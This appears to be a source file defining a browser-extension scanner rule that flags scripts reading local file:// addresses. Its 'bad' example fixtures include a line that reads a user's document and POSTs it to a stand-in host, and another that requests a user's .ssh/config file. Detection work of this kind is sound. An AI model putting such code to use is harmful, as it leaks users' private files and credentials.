import { filesAsked } from '../../extension/localFiles.ts';
import { defineRule } from '../../rule.ts';
import { backgroundExample, checkScripts } from './checkScripts.ts';

export const readsLocalFiles = defineRule({
  id: 'reads-local-files',
  title: 'Reads local files',
  severity: 'medium',
  confidence: 'high',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-200',
  references: ['https://developer.chrome.com/docs/extensions/develop/concepts/match-patterns#special'],
  why: 'If the user allows access to file addresses, the extension can read documents, keys and settings anywhere on the computer.',
  remedy: 'Let the user choose a file with a file input or by drag and drop.',
  check: checkScripts(function* ({ script, hit }) {
    for (const { call, to } of filesAsked(script)) yield hit(call.value, { evidence: to });
  }),
  examples: {
    bad: [
      backgroundExample(
        'fetch("file:///C:/Users/me/Documents/list.txt").then((r) => r.text()).then((t) => fetch("https://x.example/f", { method: "POST", body: t }));',
      ),
      backgroundExample(
        'const x = new XMLHttpRequest(); x.open("GET", "file:///home/" + name + "/.ssh/config"); x.send();',
      ),
    ],
    good: [
      backgroundExample(
        'if (location.protocol === "file:") explain(); const url = "file:///"; if (tab.url.startsWith(url)) skip();',
      ),
      backgroundExample('fetch(URL.createObjectURL(input.files[0])).then((r) => r.text()).then(show);'),
    ],
  },
});
